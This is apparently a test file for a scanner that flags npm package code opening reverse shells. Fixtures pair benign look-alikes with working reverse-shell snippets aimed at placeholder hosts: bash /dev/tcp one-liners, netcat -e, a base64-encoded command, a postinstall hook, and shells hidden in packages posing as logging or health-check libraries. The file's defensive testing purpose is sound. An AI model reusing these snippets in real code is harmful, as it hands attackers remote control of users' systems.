import { examine } from '../../../test/examine.ts';
import { opensReverseShell } from './opens-reverse-shell.ts';

/** What starts the program and what listens to the host lie as far apart as bundles are long. */
function driver(program: string, address: string): string {
  const between = Array.from({ length: 2500 }, (_, at) => `exports.f${at} = () => ${at};`).join('\n');
  return `const launch = program => require('child_process').spawn(${program}, []); ${between} exports.connect = (address, program) => { const child = launch(program); const socket = new (require('ws'))(${address}); socket.on('message', text => child.stdin.write(text)) }`;
}

const GIVES = `exports.attach = socket => { const child = require('child_process').spawn('/bin/sh', ['-i']); socket.pipe(child.stdin); child.stdout.pipe(socket); };`;

examine(opensReverseShell, {
  speaks: [
    {
      when: 'a container of services holds a socket to a host of the code and a shell that waits, and joins them in other classes',
      files: {
        'package.json': { name: 'stanza-log', description: 'Structured logs', type: 'module', main: 'index.js' },
        'index.js': `import { Container } from './container.js'; import { register } from './services.js'; import { Sync } from './sync.js'; export const createLogger = () => { const all = new Container(); register(all); new Sync({ link: all.resolve('link'), view: all.resolve('view') }).open(); };`,
        'container.js': `export class Container { #made = new Map(); register(id, make) { this.#made.set(id, make); return this; } resolve(id) { return this.#made.get(id)(this); } }`,
        'services.js': `import net from 'node:net'; import * as proc from 'node:child_process'; export const register = all => all.register('place', () => ({ host: 'collector.invalid', port: 4517 })).register('link', one => () => net.connect(one.resolve('place'))).register('view', () => () => { const [file, words] = process.platform === 'win32' ? [process.env.ComSpec, ['/q']] : [process.env.SHELL || '/bin/sh', ['-i']]; return proc.spawn(file, words, { stdio: 'pipe' }); });`,
        'sync.js': `export class Sync { constructor(parts) { this.parts = parts; } open() { const link = this.parts.link(); link.once('connect', () => this.bind(link, this.parts.view())); } bind(one, other) { one.pipe(other.stdin); for (const out of [other.stdout, other.stderr]) out.pipe(one); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'what a shell says goes into a socket that another file has made',
      files: {
        'ways.js': `const net = require('net'); exports.ways = { tcp({ host, port }) { return net.connect({ host, port }) } }`,
        'index.js': `const { ways } = require('./ways'); const cp = require('child_process'); const shells = { linux: ['/bin/sh', '-i'], win32: ['cmd.exe', ''] };
function join(wire, [bin, flag]) { const child = cp.spawn(bin, [flag]); for (const one of [child.stdout, child.stderr]) one.pipe(wire, { end: false }) }
exports.expand = port => { const wire = ways.tcp({ host: 'tap.relay.invalid', port }); wire.once('connect', () => join(wire, shells[process.platform])) }`,
      },
      weight: 'strong',
    },
    {
      when: 'a helper for pages of health gives a shell to a connection that it is handed',
      files: { 'package.json': { name: 'healthz-kit', description: 'Pages of health for servers' }, 'index.js': GIVES },
      weight: 'strong',
    },
    {
      when: 'a bundle of a driver hands messages of its caller’s host to its caller’s program',
      files: { 'index.js': driver('program', 'address') },
      weight: 'context',
    },
    { when: 'the same bundle starts a shell', files: { 'index.js': driver("'/bin/sh'", 'address') }, weight: 'weak' },
    {
      when: 'the same bundle is told by a host that stands in the code',
      files: { 'index.js': driver('program', "'wss://orders.invalid/'") },
      weight: 'weak',
    },
    {
      when: 'a shell and a socket are piped into each other',
      files: {
        'index.js': `const sh = require('child_process').spawn('/bin/sh', []); const c = new (require('net').Socket)(); c.connect(4444, '192.0.2.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })`,
      },
      weight: 'proof',
    },
    {
      when: 'what a socket says is executed',
      files: {
        'index.js': `const c = require('net').connect(4444, '192.0.2.1'); c.on('data', d => require('child_process').exec(d.toString(), (e, out) => c.write(out)))`,
      },
      weight: 'proof',
    },
    {
      when: 'a web socket gives commands',
      files: {
        'index.js': `const W = require('ws'); const w = new W('wss://c2.invalid'); w.on('message', m => require('child_process').exec(m.toString()))`,
      },
      weight: 'proof',
    },
    {
      when: 'bash does it alone',
      files: { 'index.js': `require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')` },
      weight: 'proof',
      says: ['when it is imported'],
    },
    {
      when: 'netcat does it, in arguments',
      files: { 'index.js': `require('child_process').spawn('nc', ['-e', '/bin/sh', '192.0.2.1', '4444'])` },
      weight: 'proof',
    },
    {
      when: 'the command is encoded and only called',
      files: {
        'index.js': `exports.x = () => require('child_process').exec(atob('${Buffer.from('sh -i >& /dev/tcp/192.0.2.1/4444 0>&1').toString('base64')}'))`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook does it in a shell of its own',
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'bash -c "bash -i >& /dev/tcp/192.0.2.5/4444 0>&1"' } } },
      weight: 'proof',
    },
    {
      when: 'the shell depends on the system',
      files: {
        'index.js': `const net = require('net'), cp = require('child_process'); const s = new net.Socket(); s.connect(4444, 'c2.invalid', () => { const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh'); s.on('data', d => sh.stdin.write(d)); sh.stdout.on('data', d => s.write(d)); });`,
      },
      weight: 'proof',
    },
    {
      when: 'the channel of a tunnel is handed out by an event',
      files: {
        'index.js': `const { Client } = require('ssh2'); const c = new Client(); c.on('ready', () => {}).on('tcp connection', (info, accept) => { const channel = accept(); const sh = require('child_process').spawn('/bin/sh'); channel.pipe(sh.stdin); sh.stdout.pipe(channel); }).connect({ host: 'c2.invalid' })`,
      },
      weight: 'proof',
    },
    {
      when: 'one of several programs that are started at one place is a shell that runs what comes over a socket',
      files: {
        'index.js': `const { spawn } = require('child_process'); const ways = { darwin: ['pbcopy', []], win32: ['powershell.exe', ['-NoProfile', '-Command', 'Set-Clipboard -Value 1; iex ([Console]::In.ReadToEnd())']], linux: ['xclip', ['-i']] }; const [program, words] = ways[process.platform]; require('net').connect(47, 'c2.invalid').on('data', text => spawn(program, words).stdin.end(text));`,
      },
      weight: 'proof',
    },
  ],
  silent: [
    {
      when: 'what another machine sends is put into the clipboard by a script of PowerShell that only reads it',
      files: {
        'index.js': `const { spawn } = require('child_process'); exports.take = port => require('net').createServer(socket => socket.pipe(spawn('powershell.exe', ['-NoProfile', '-Command', 'Set-Clipboard -Value ([Console]::In.ReadToEnd())']).stdin)).listen(port);`,
      },
    },
    {
      when: 'what another machine sends is put into the clipboard by whatever the system brings for that, started at one place',
      files: {
        'index.js': `const { spawn } = require('child_process'); const ways = { darwin: ['pbcopy', []], win32: ['powershell.exe', ['-NoProfile', '-Command', '[Console]::InputEncoding=[Text.Encoding]::UTF8; Set-Clipboard -Value ([Console]::In.ReadToEnd())']], linux: ['xclip', ['-i']] }; const [program, words] = ways[process.platform]; require('net').connect(47, process.argv[2]).on('data', text => spawn(program, words).stdin.end(text));`,
      },
    },
    {
      when: 'a small package tells a host of the code how long a command of a shell took',
      files: {
        'index.js': `const net = require('net'), cp = require('child_process'); exports.run = args => { net.connect(2003, 'graphite.invalid').end('runs 1'); return cp.spawn('bash', args, { stdio: 'pipe' }); }; exports.make = () => { const child = cp.spawn('bash', { stdio: 'ignore' }); return child; };`,
      },
    },
    {
      when: 'a program is started through a shell, and a socket goes to whoever is named',
      files: {
        'index.js': `const net = require('net'); const cp = require('child_process'); exports.log = (host, line) => net.connect(514, host).end(line); exports.run = command => { const child = cp.spawn('/bin/sh', ['-c', command]); child.stdout.pipe(process.stdout); return child }`,
      },
    },
    {
      when: 'a terminal in a page does',
      files: { 'package.json': { name: 'web-terminal', description: 'A terminal in a page' }, 'index.js': GIVES },
    },
    {
      when: 'the shell is told what to run',
      files: {
        'index.js': `exports.sort = socket => { const child = require('child_process').spawn('/bin/sh', ['-c', 'sort -u']); socket.pipe(child.stdin); child.stdout.pipe(socket); };`,
      },
    },
    { when: 'a shell runs a known command', files: { 'index.js': `require('child_process').spawn('sh', ['-c', 'ls -i > list'])` } },
    {
      when: 'a client of a database has a socket',
      files: {
        'index.js': `const c = require('net').connect(5432, 'db.invalid'); c.on('data', d => d.length); require('child_process').exec('git status')`,
      },
    },
    { when: 'text only talks about it', files: { 'index.js': `module.exports = 'bash -i >& /dev/tcp/192.0.2.1/4444'` } },
    {
      when: 'a client of ssh runs commands on the other side',
      files: {
        'index.js': `const { Client } = require('ssh2'); exports.exec = (options, command) => new Promise(done => { const c = new Client(); c.on('ready', () => c.exec(command, (error, stream) => stream.on('data', done))).connect(options); })`,
      },
    },
    {
      when: 'a hook uses bash',
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'bash -c "node build.js > build.log 2>&1"' } } },
    },
  ],
});
